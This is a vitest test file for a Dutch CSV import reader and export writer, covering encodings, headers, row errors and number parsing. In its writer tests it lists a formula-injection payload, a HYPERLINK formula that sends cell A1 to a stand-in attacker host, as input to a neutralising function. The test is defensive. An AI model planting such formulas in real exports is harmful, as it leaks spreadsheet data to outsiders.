import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { indicatorChoices, municipalityChoices, readImportFile } from '../../functions/core/csv-import';
import {
  Choices,
  type CsvLayout,
  type CsvSummary,
  ImportRejectedError,
  checkImportSize,
  decodeWindows1252,
  formatRows,
  parseNumber,
  quoteValue,
  readCsv,
} from '../../functions/core/csv-reader';
import { neutraliseCell, toCsv } from '../../functions/core/csv-writer';
import { catalogueOfConfig } from '../support/organisation';

const CATALOGUE = catalogueOfConfig();

/** A layout like the goals import's (`indicator;jaar;doel`), to show the reader serves any import. */
const GOALS: CsvLayout<'goals'> = { kind: 'goals', description: 'doelen', columns: [{ name: 'indicator' }, { name: 'jaar' }, { name: 'doel', aliases: ['streefwaarde'] }] };

function chunks(bytes: Buffer, size: number): AsyncIterable<Uint8Array> {
  const parts: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += size) parts.push(bytes.subarray(i, i + size));
  return Readable.from(parts);
}

interface ReadRow {
  row: number;
  line: number;
  cells: Record<string, string>;
}

async function read(file: string | Buffer, chunkSize = 7): Promise<{ summary: CsvSummary<'goals'>; rows: ReadRow[] }> {
  const rows: ReadRow[] = [];
  const bytes = typeof file === 'string' ? Buffer.from(file, 'utf8') : file;
  const summary = await readCsv(chunks(bytes, chunkSize), { fileName: 'doelen.csv', layouts: [GOALS] }, () => (row) => {
    rows.push({ row: row.row, line: row.line, cells: Object.fromEntries(GOALS.columns.map((c) => [c.name, row.cell(c.name).text])) });
  });
  return { summary, rows };
}

/** What an operator reads first: `doelen.csv is geweigerd (1 fout); …` and then the one problem. */
const REFUSED = 'doelen.csv is geweigerd (1 fout); er is niets gewijzigd. Verbeter het bestand en lees het opnieuw in.';
const EXPECTED = 'verwacht indicator;jaar;doel (kolommen in elke volgorde, gescheiden door ; of ,)';
const SAVE_AS_UTF8 = 'Sla het in Excel op als "CSV UTF-8 (door komma\'s gescheiden)" en lees het opnieuw in.';

async function rejection(file: string | Buffer, chunkSize = 7): Promise<ImportRejectedError> {
  const error = await read(file, chunkSize).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(ImportRejectedError);
  return error as ImportRejectedError;
}

describe('the CSV reader: encodings', () => {
  const text = 'indicator;jaar;doel\r\nInstroom ‘Participatiewet’ – €;2026;1\r\n';
  const cp1252 = Buffer.from(text.replace(/‘/g, '\x91').replace(/’/g, '\x92').replace(/–/g, '\x96').replace(/€/g, '\x80'), 'latin1');

  it.each([1, 2, 3, 7, 1000])('reads UTF-8 without BOM, with BOM and Windows-1252 alike, in chunks of %i bytes, and says which it found', async (size) => {
    const plain = await read(Buffer.from(text), size);
    const bom = await read(Buffer.from(`\uFEFF${text}`), size);
    const ansi = await read(cp1252, size);
    expect([plain.summary.encoding, bom.summary.encoding, ansi.summary.encoding]).toEqual(['utf-8', 'utf-8-bom', 'windows-1252']);
    for (const { rows } of [plain, bom, ansi]) expect(rows[0]?.cells.indicator).toBe('Instroom ‘Participatiewet’ – €');
  });

  it('decodes 0x80–0x9F as Windows-1252 does (€, quotes, dashes), not as Latin-1 control characters', () => {
    expect(decodeWindows1252(Uint8Array.of(0x80, 0x91, 0x92, 0x93, 0x94, 0x96, 0x97, 0x85, 0xe9, 0x41))).toBe('€‘’“”–—…éA');
  });

  it('reads a file that turns out not to be UTF-8 only late (after 100 KB of ASCII) as Windows-1252', async () => {
    const ascii = 'bijstand;2025;1\r\n'.repeat(6000);
    const file = Buffer.concat([Buffer.from(`indicator;jaar;doel\r\n${ascii}`), Buffer.from('Jongeren \xe9\xe9n;2026;1\r\n', 'latin1')]);
    const { summary, rows } = await read(file, 4096);
    expect(summary.encoding).toBe('windows-1252');
    expect(rows.at(-1)?.cells.indicator).toBe('Jongeren één');
  });

  it('refuses a file that mixes UTF-8 and Windows-1252, naming the line, rather than store either wrong', async () => {
    const file = Buffer.concat([Buffer.from('indicator;jaar;doel\r\nJongeren één;2025;1\r\n'), Buffer.from('Jongeren \xe9\xe9n;2026;1\r\n', 'latin1')]);
    for (const size of [5, 1000]) {
      const error = await rejection(file, size);
      expect(error.message).toContain('regel 3 is geen UTF-8, maar het bestand heeft eerder letters in UTF-8');
      expect(error.message).toContain('CSV UTF-8');
    }
  });

  it('refuses a UTF-16 file ("Unicode-tekst") with what to do', async () => {
    const error = await rejection(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('indicator;jaar;doel\r\n', 'utf16le')]));
    expect(error.message).toContain('het bestand is UTF-16');
  });

  it('refuses a value that holds U+FFFD: it was garbled before, and storing it would keep the damage', async () => {
    const error = await rejection('indicator;jaar;doel\nJos\uFFFD;2026;1\n');
    expect(error.problems).toEqual([expect.objectContaining({ row: 2, column: 'indicator', message: expect.stringContaining('vervangingsteken') })]);
  });
});

describe('the CSV reader: encodings, exactly what the operator is told', () => {
  it('refuses a UTF-16 file, little- or big-endian, as a whole and says how to save it', async () => {
    const utf16le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('indicator;jaar;doel\r\n', 'utf16le')]);
    const utf16be = Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('indicator;jaar;doel\r\n', 'utf16le').swap16()]);
    for (const file of [utf16le, utf16be]) {
      const error = await rejection(file, 1000);
      expect(error.problems).toEqual([{ row: null, rows: [], column: null, message: `het bestand is UTF-16 ("Unicode-tekst"); dat wordt niet gelezen. ${SAVE_AS_UTF8}` }]);
      expect(error.message).toBe(`${REFUSED}\n  het bestand is UTF-16 ("Unicode-tekst"); dat wordt niet gelezen. ${SAVE_AS_UTF8}`);
    }
  });

  it('refuses an Excel workbook (.xlsx, .xls) as a whole and says how to save it, not its binary header as columns', async () => {
    // A municipality's upload of its Excel file read: de kopregel "PK\u0003\u0004…" mist de kolommen …
    const xlsx = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00]), Buffer.from('[Content_Types].xml;;')]);
    const xls = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0x00, 0x3b]);
    for (const file of [xlsx, xls]) {
      const error = await rejection(file, 3);
      expect(error.message).toBe(`${REFUSED}\n  het bestand is een Excel-werkmap (.xlsx of .xls), geen CSV; dat wordt niet gelezen. ${SAVE_AS_UTF8}`);
    }
  });

  it('refuses a file with a UTF-8 BOM that goes on in Windows-1252, naming the line', async () => {
    const file = Buffer.concat([Buffer.from('\uFEFFindicator;jaar;doel\nbijstand;2026;'), Buffer.from([0x80])]);
    const error = await rejection(file, 1000);
    expect(error.message).toBe(`${REFUSED}\n  regel 2 is geen UTF-8, maar het bestand begint als UTF-8 (met BOM): het mengt twee tekensets. ${SAVE_AS_UTF8}`);
  });

  it('reads letters of two, three and four bytes in UTF-8 whatever chunk boundary splits them', async () => {
    const text = 'indicator;jaar;doel\nJosé अ € ﬁ 😀;2026;1\n';
    for (const size of [1, 2, 3, 4, 5, 6]) {
      const { summary, rows } = await read(Buffer.from(text), size);
      expect(summary.encoding).toBe('utf-8');
      expect(rows[0]?.cells.indicator).toBe('José अ € ﬁ 😀');
    }
  });

  it('reads a stream of text chunks as well as one of bytes', async () => {
    async function* text() {
      yield 'indicator;jaar;doel\n';
      yield 'José;2026;1\n';
    }
    const rows: string[] = [];
    const summary = await readCsv(text(), { fileName: 'doelen.csv', layouts: [GOALS] }, () => (row) => {
      rows.push(row.cell('indicator').text);
    });
    expect(summary).toEqual({ kind: 'goals', encoding: 'utf-8', delimiter: ';', rows: 1 });
    expect(rows).toEqual(['José']);
  });

  it('reads a file that ends inside a UTF-8 letter as Windows-1252', async () => {
    const { summary, rows } = await read(Buffer.concat([Buffer.from('indicator;jaar;doel\nbijstand;2026;Jos'), Buffer.from([0xc3])]), 1000);
    expect(summary.encoding).toBe('windows-1252');
    expect(rows[0]?.cells.doel).toBe('JosÃ');
  });

  it('reads a file of one or two bytes, shorter than a BOM', async () => {
    expect((await rejection('x')).message).toBe(`${REFUSED}\n  rij 1: de kopregel "x" mist de kolommen indicator, jaar en doel en heeft een kolom "x" die niet wordt gebruikt (verwijder hem); ${EXPECTED}`);
  });

  it.each([
    ['a two-byte letter (£)', '£'],
    ['a letter after U+07FF (अ)', 'अ'],
    ['a letter from U+F000 on (ﬁ)', 'ﬁ'],
    ['a four-byte letter (😀)', '😀'],
  ])('names the first line that is not UTF-8 in a file with %s in UTF-8 before it', async (_, letter) => {
    for (const cp1252 of [[0x80], [0xc0, 0x61], [0xe9, 0x6e], [0xf5, 0x61]]) {
      const file = Buffer.concat([Buffer.from(`indicator;jaar;doel\nJongeren ${letter};2025;1\nbijstand;2026;`), Buffer.from(cp1252), Buffer.from('\nbijstand;2027;\xe9\n', 'latin1')]);
      const error = await rejection(file, 1000);
      expect(error.message).toBe(`${REFUSED}\n  regel 3 is geen UTF-8, maar het bestand heeft eerder letters in UTF-8: het mengt twee tekensets. ${SAVE_AS_UTF8}`);
    }
  });
});

describe('the CSV reader: size', () => {
  it('accepts a file of exactly the size limit and refuses one a byte over it', async () => {
    const file = Buffer.from('indicator;jaar;doel\nbijstand;2026;1\n');
    const readWith = (maxBytes: number) => readCsv(chunks(file, 7), { fileName: 'doelen.csv', layouts: [GOALS], maxBytes }, () => () => undefined);
    expect(await readWith(file.length)).toEqual({ kind: 'goals', encoding: 'utf-8', delimiter: ';', rows: 1 });
    const error = await readWith(file.length - 1).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ImportRejectedError);
    expect((error as ImportRejectedError).problems).toEqual([
      { row: null, rows: [], column: null, message: 'het bestand is groter dan 0 KB; de grens is 0 KB. Splits het in kleinere bestanden (bijvoorbeeld een per jaar).' },
    ]);
  });

  it('refuses a known size only above the limit', () => {
    expect(() => checkImportSize('doelen.csv', 100, 100)).not.toThrow();
    expect(() => checkImportSize('doelen.csv', 101, 100)).toThrow(ImportRejectedError);
  });
});

describe('the CSV reader: the header, exactly what the operator is told', () => {
  it.each([
    ['an empty first line', ';;\nindicator;jaar;doel\n', `rij 1: de eerste regel is leeg; het bestand moet beginnen met de kopregel: ${EXPECTED}`],
    ['a column without a name', 'indicator;;jaar;doel\n', `rij 1: kolom 2 van de kopregel "indicator;;jaar;doel" heeft geen naam; geef hem een naam of verwijder de kolom (${EXPECTED})`],
    ['a first column without a name', ';indicator;jaar;doel\n', `rij 1: kolom 1 van de kopregel ";indicator;jaar;doel" heeft geen naam; geef hem een naam of verwijder de kolom (${EXPECTED})`],
    ['one column too many', 'indicator;jaar;doel;opmerking\n', `rij 1: de kopregel "indicator;jaar;doel;opmerking" heeft een kolom "opmerking" die niet wordt gebruikt (verwijder hem); ${EXPECTED}`],
    ['one column only, without a separator', 'indicator\nbijstand\n', `rij 1: de kopregel "indicator" mist de kolommen jaar en doel; ${EXPECTED}`],
    ['unknown columns and trailing ";"', 'foo;bar;;\n', `rij 1: de kopregel "foo;bar" mist de kolommen indicator, jaar en doel en heeft kolommen "foo" en "bar" die niet worden gebruikt (verwijder ze); ${EXPECTED}`],
    ['a sep= line with another separator', 'sep=|\nindicator|jaar|doel\n', 'de eerste regel "sep=|" kiest "|" als scheidingsteken; gebruik ; of ,'],
  ])('refuses %s', async (_, file, problem) => {
    expect((await rejection(file)).message).toBe(`${REFUSED}\n  ${problem}`);
  });

  it('refuses a header that has only part of the columns of every kind of file', async () => {
    const error = await readImportFile(Buffer.from('indicator;waarde\nbijstand;1\n'), { fileName: 'c.csv', municipalities: ['Tiel'], catalogue: CATALOGUE, today: new Date('2026-11-01') }).catch((e: unknown) => e);
    expect((error as Error).message).toContain('rij 1: de kopregel is "indicator;waarde"; verwacht gemeente;indicator;maand;waarde voor cijfers of indicator;jaar;waarde voor benchmark');
  });

  it('stops reading the source once the header is refused', async () => {
    let released = false;
    async function* source() {
      try {
        yield Buffer.from('onbekend;kopregel\n');
        for (;;) yield Buffer.from('x;y\n');
      } finally {
        released = true;
      }
    }
    await expect(readCsv(source(), { fileName: 'doelen.csv', layouts: [GOALS] }, () => () => undefined)).rejects.toBeInstanceOf(ImportRejectedError);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(released).toBe(true);
  });

  it('does not hide a fault of the row handler as a fault of the file', async () => {
    const reading = readCsv(Buffer.from('indicator;jaar;doel\nbijstand;2026;1\n'), { fileName: 'doelen.csv', layouts: [GOALS] }, () => (row) => {
      row.cell('waarde');
    });
    await expect(reading).rejects.toThrow(new Error('the layout has no column waarde'));
  });
});

describe('the CSV reader: rows, exactly what the operator is told', () => {
  it('names rows with too few or too many columns, counting a trailing ";" as no column', async () => {
    const error = await rejection('indicator;jaar;doel\nbijstand;\nbijstand\nbijstand;2026;1;x;;\n');
    expect(error.message).toBe(
      [
        'doelen.csv is geweigerd (3 fouten); er is niets gewijzigd. Verbeter het bestand en lees het opnieuw in.',
        '  rij 2: heeft 2 kolommen; verwacht 3 (indicator;jaar;doel), gescheiden door ";"',
        '  rij 3: heeft 1 kolom; verwacht 3 (indicator;jaar;doel), gescheiden door ";"',
        '  rij 4: heeft 4 kolommen; verwacht 3 (indicator;jaar;doel), gescheiden door ";"',
      ].join('\n'),
    );
  });

  it.each([
    ['in chunks', 7],
    ['as one chunk', 100_000],
  ])('names the row of an unclosed quote or text after a closing quote, read %s', async (_, size) => {
    const unclosed = await rejection('indicator;jaar;doel\n\nbijstand;2026;1\n"bijstand;2026;1\nbijstand;2027;1\n', size);
    expect(unclosed.message).toBe(`${REFUSED}\n  rij 4: een veld tussen aanhalingstekens wordt niet gesloten (een " zonder de " die erbij hoort); de rest van het bestand is niet gelezen`);
    const afterQuote = await rejection('indicator;jaar;doel\nbijstand;2026;1\n"bijstand"x;2026;1\n', size);
    expect(afterQuote.message).toBe(`${REFUSED}\n  rij 3: een veld tussen aanhalingstekens heeft tekst na de afsluitende "; de rest van het bestand is niet gelezen`);
  });

  it('refuses only an empty file as empty, and only a file with a good header and no rows as header-only', async () => {
    const empty = await rejection('');
    expect(empty.problems).toEqual([{ row: null, rows: [], column: null, message: 'het bestand is leeg; het moet beginnen met een kopregel (indicator;jaar;doel) met daaronder de rijen' }]);
    expect(empty.message).toBe(`${REFUSED}\n  het bestand is leeg; het moet beginnen met een kopregel (indicator;jaar;doel) met daaronder de rijen`);
    const unclosedFirstRow = await rejection('indicator;jaar;doel\n"bijstand;2026;1\n');
    expect(unclosedFirstRow.problems.map((p) => p.message)).toEqual(['een veld tussen aanhalingstekens wordt niet gesloten (een " zonder de " die erbij hoort); de rest van het bestand is niet gelezen']);
  });

  it('trims the spaces around values and keeps quotes inside an unquoted value', async () => {
    const { rows } = await read('indicator;jaar;doel\n bijstand ; 2026 ;De "Zon"\n');
    expect(rows[0]?.cells).toEqual({ indicator: 'bijstand', jaar: '2026', doel: 'De "Zon"' });
  });

  it('refuses a garbled value once, without also handing the row to the import', async () => {
    const error = (await readImportFile(Buffer.from('gemeente;indicator;maand;waarde\nTi\uFFFDl;bijstand;2026-09;1\n'), {
      fileName: 'c.csv',
      municipalities: ['Tiel'],
      catalogue: CATALOGUE,
      today: new Date('2026-11-01'),
    }).catch((e: unknown) => e)) as ImportRejectedError;
    expect(error.problems).toEqual([
      {
        row: 2,
        rows: [2],
        column: 'gemeente',
        message: '"Ti\uFFFDl" bevat het vervangingsteken \uFFFD: de tekst is al eerder verminkt (een letter als é of ü ging verloren). Typ de juiste letter in plaats van \uFFFD',
      },
    ]);
  });
});

describe('the CSV reader: the report', () => {
  const importFile = (file: string, municipalities: string[] = ['Tiel']) =>
    readImportFile(Buffer.from(file), { fileName: 'c.csv', municipalities, catalogue: CATALOGUE, today: new Date('2026-11-01') }).then(
      () => {
        throw new Error('the file was accepted');
      },
      (e: unknown) => e as ImportRejectedError,
    );

  it('keeps the same message in different columns apart', async () => {
    const error = await importFile('gemeente;indicator;maand;waarde\n;bijstand;2026-09;1\nTiel;bijstand;;1\n');
    expect(error.message.split('\n').slice(1)).toEqual(['  rij 2, kolom gemeente: is leeg', '  rij 3, kolom maand: is leeg']);
  });

  it('says so when the organisation has no municipalities yet', async () => {
    const error = await importFile('gemeente;indicator;maand;waarde\nTiel;bijstand;2026-09;1\n', []);
    expect(error.message.split('\n').slice(1)).toEqual(['  rij 2, kolom gemeente: "Tiel" is geen gemeente van de organisatie', 'Geldige waarden in kolom gemeente: (nog geen).']);
  });

  it('counts the one problem beyond the hundred listed as "1 fout"', async () => {
    const rows = Array.from({ length: 101 }, (_, i) => `Tiel;bijstand;2026-09;-${i + 1}`);
    const error = await importFile(['gemeente;indicator;maand;waarde', ...rows].join('\n'));
    expect(error.message.split('\n').at(-1)).toBe('  … en nog 1 fout');
  });
});
describe('the CSV reader: separators, rows and columns', () => {
  it('takes ";" or "," from the header, and a sep= first line over it (not counted as a row)', async () => {
    const comma = await read('indicator,jaar,doel\n"a;b",2026,"1,5"\n');
    const sep = await read('sep=,\r\nindicator,jaar,doel\r\nbijstand,2026,1\r\n');
    const quotedSep = await read('"sep=;";;\r\nindicator;jaar;doel\r\nbijstand;2026;1\r\n');
    expect(comma.summary.delimiter).toBe(',');
    expect(comma.rows).toEqual([{ row: 2, line: 2, cells: { indicator: 'a;b', jaar: '2026', doel: '1,5' } }]);
    expect(sep.summary.delimiter).toBe(',');
    expect(sep.rows).toEqual([{ row: 2, line: 3, cells: { indicator: 'bijstand', jaar: '2026', doel: '1' } }]);
    expect(quotedSep.rows).toEqual([{ row: 2, line: 3, cells: { indicator: 'bijstand', jaar: '2026', doel: '1' } }]);
  });

  it('ignores trailing empty columns: a ";" at the end of the header and of every row', async () => {
    const { rows } = await read('indicator;jaar;doel;\r\nbijstand;2026;1;\r\ninstroom;2026;2;;;\r\n');
    expect(rows.map((r) => r.cells)).toEqual([
      { indicator: 'bijstand', jaar: '2026', doel: '1' },
      { indicator: 'instroom', jaar: '2026', doel: '2' },
    ]);
  });

  it('says a fault every row shares once, naming the rows, not once per row', async () => {
    const rows = Array.from({ length: 208 }, (_, i) => `bijstand;${2000 + (i % 20)};${i};extra`);
    const error = await rejection(['indicator;jaar;doel', ...rows].join('\r\n'));
    expect(error.problemCount).toBe(208);
    expect(error.message.split('\n')).toEqual([
      'doelen.csv is geweigerd (208 fouten); er is niets gewijzigd. Verbeter het bestand en lees het opnieuw in.',
      '  rijen 2–209: heeft 4 kolommen; verwacht 3 (indicator;jaar;doel), gescheiden door ";"',
    ]);
  });

  it('skips blank lines and ";;;" rows but counts them as rows, and numbers rows as a spreadsheet does', async () => {
    const { rows, summary } = await read('indicator;jaar;doel\n\n;;\n"two\nlines";2026;1\nbijstand;2026;2\n');
    expect(summary.rows).toBe(2);
    expect(rows.map((r) => [r.row, r.line])).toEqual([
      [4, 4],
      [5, 6],
    ]);
  });

  it('reads headers in any case, with dashes and spaces, and aliases, in any order', async () => {
    const { rows } = await read('Streef-Waarde;JAAR;Indicator\n5;2026;bijstand\n');
    expect(rows[0]?.cells).toEqual({ indicator: 'bijstand', jaar: '2026', doel: '5' });
  });

  it('names what a header lacks and what it has too many, and what it expects', async () => {
    const error = await rejection('indicator;jaar;waarde;opmerking\nbijstand;2026;1;x\n');
    expect(error.message).toContain(
      'rij 1: de kopregel "indicator;jaar;waarde;opmerking" mist de kolom doel en heeft kolommen "waarde" en "opmerking" die niet worden gebruikt (verwijder ze); verwacht indicator;jaar;doel (kolommen in elke volgorde, gescheiden door ; of ,)',
    );
  });

  it('refuses an empty file and one with only its header', async () => {
    expect((await rejection('')).message).toContain('het bestand is leeg; het moet beginnen met een kopregel (indicator;jaar;doel)');
    expect((await rejection('indicator;jaar;doel\r\n;;\r\n')).message).toContain('het bestand heeft alleen een kopregel en geen rijen');
  });

  it('takes off the apostrophe its own exports put before =, +, - and @', async () => {
    const { rows } = await read(toCsv(['indicator', 'jaar', 'doel'], [['bijstand', '2026', '-2,5'], ["'gewoon", '2026', '1']]));
    expect(rows.map((r) => [r.cells.indicator, r.cells.doel])).toEqual([
      ['bijstand', '-2,5'],
      ["'gewoon", '1'],
    ]);
  });
});

describe('the CSV reader: values', () => {
  it.each([
    ['1234', ';', 1234],
    ['1234,5', ';', 1234.5],
    ['1.234,5', ';', 1234.5],
    ['1.234.567', ';', 1234567],
    ['1234.5', ';', 1234.5],
    ['-3,2', ';', -3.2],
    ['0', ',', 0],
    ['1.234.567,25', ',', 1234567.25],
    ['1 234', ';', 1234],
    ['1\u00a0234,5', ';', 1234.5],
    ['1\u202f234\u202f567', ',', 1234567],
    ['-12 345,25', ';', -12345.25],
  ] as const)('reads %j in a "%s" file as %d', (text, delimiter, expected) => {
    expect(parseNumber(text, delimiter)).toBe(expected);
  });

  it('reads 1.234.567 as thousands in a ,-file too, and a value with spaces around it', () => {
    expect(parseNumber('1.234.567', ',')).toBe(1234567);
    expect(parseNumber(' 1.234,5 ', ';')).toBe(1234.5);
  });

  it('finds a value with spaces around it, and says an unknown one with every choice', () => {
    const roles = new Choices('rol', [
      { value: 'ab-lid', names: ['ab-lid', 'ab lid'], shown: 'ab-lid' },
      { value: 'reviewer', names: ['reviewer'], shown: 'reviewer' },
    ]);
    expect(roles.find('  AB  lid ')).toBe('ab-lid');
    expect(roles.unknown('wethouder')).toBe('"wethouder" is geen rol; kies ab-lid of reviewer');
    expect(new Choices('rol', []).unknown('wethouder')).toBe('"wethouder" is geen rol; er is er nog geen ingesteld');
  });

  it('quotes a value in a message whole up to 80 characters, and cut after 80', () => {
    expect(quoteValue('a'.repeat(80))).toBe(`"${'a'.repeat(80)}"`);
    expect(quoteValue('a'.repeat(81))).toBe(`"${'a'.repeat(80)}…"`);
  });

  it('reads 1.234 as thousands in a ;-file (Dutch Excel) and as a decimal point in a ,-file', () => {
    expect(parseNumber('1.234', ';')).toBe(1234);
    expect(parseNumber('1.234', ',')).toBe(1.234);
    expect(parseNumber('1.23', ';')).toBe(1.23);
  });

  it.each(['', 'abc', '1,2,3', '12.34,5', '1e5', 'NaN', 'Infinity', '12 34', '1 2345', '--1', '€ 12', '1 234.567,8'])('refuses %j', (text) => {
    expect(parseNumber(text, ';')).toBeNull();
  });

  it('finds an indicator by its id or its label, in any case, and a municipality with a curly apostrophe', () => {
    const indicators = indicatorChoices(CATALOGUE);
    expect(indicators.find('BIJSTAND')?.id).toBe('bijstand');
    expect(indicators.find('bijstandsuitkeringen  participatiewet')?.id).toBe('bijstand');
    expect(municipalityChoices(["'s-Hertogenbosch"]).find('’s-hertogenbosch')).toBe("'s-Hertogenbosch");
  });

  it('lists every valid indicator when one is unknown, none cut off', async () => {
    const file = 'gemeente;indicator;maand;waarde\nTiel;bijstandje;2026-09;1\nTiel;onbekend;2026-09;1\n';
    const error = (await readImportFile(Buffer.from(file), { fileName: 'c.csv', municipalities: ['Tiel'], catalogue: CATALOGUE, today: new Date('2026-11-01') }).catch((e: unknown) => e)) as Error;
    const listed = error.message.split('\n').filter((l) => l.startsWith('Geldige waarden in kolom indicator:'));
    expect(listed).toHaveLength(1);
    for (const i of CATALOGUE.indicators) expect(listed[0]).toContain(`${i.id} (${i.label})`);
    expect(listed[0]).not.toContain('…');
  });

  it('imports figures by indicator label, with NBSP thousands, from a sep=; file with trailing ";"', async () => {
    const file = 'sep=;\r\nGemeente;Indicator;Maand;Waarde;\r\nTiel;Bijstandsuitkeringen Participatiewet;2026-09;1\u00a0234;\r\n;;;;\r\n';
    const result = await readImportFile(Buffer.from(file), { fileName: 'c.csv', municipalities: ['Tiel'], catalogue: CATALOGUE, today: new Date('2026-11-01') });
    expect(result.values).toEqual([{ municipality: 'Tiel', indicator: 'bijstand', month: '2026-09', value: 1234 }]);
  });
});

describe('rows in a report', () => {
  it('are named singly, as ranges and as a list', () => {
    expect(formatRows([5])).toBe('rij 5');
    expect(formatRows([2, 3])).toBe('rijen 2 en 3');
    expect(formatRows([2, 3, 4, 7, 9, 10, 11])).toBe('rijen 2–4, 7 en 9–11');
  });

  it('name at most 20 ranges and then the number of rows', () => {
    const every = (n: number) => Array.from({ length: n }, (_, i) => 2 + 2 * i);
    expect(formatRows(every(20))).toBe(`rijen ${every(19).join(', ')} en 40`);
    expect(formatRows(every(21))).toBe(`rijen ${every(20).join(', ')} en verder (21 rijen in totaal)`);
  });
});

describe('the CSV writer', () => {
  it.each(['=HYPERLINK("http://evil.example/?x="&A1;"klik")', '@SUM(1+1)', '+31 6', '-2', '\tx', '\rx'])('neutralises %j with a leading apostrophe', (cell) => {
    expect(neutraliseCell(cell)).toBe(`'${cell}`);
  });

  it('leaves other cells alone and quotes what needs quoting', () => {
    expect(neutraliseCell('Jan = Piet')).toBe('Jan = Piet');
    expect(toCsv(['a', 'b'], [['x;y', '=1']])).toBe('\uFEFFa;b\r\n"x;y";\'=1\r\n');
  });
});
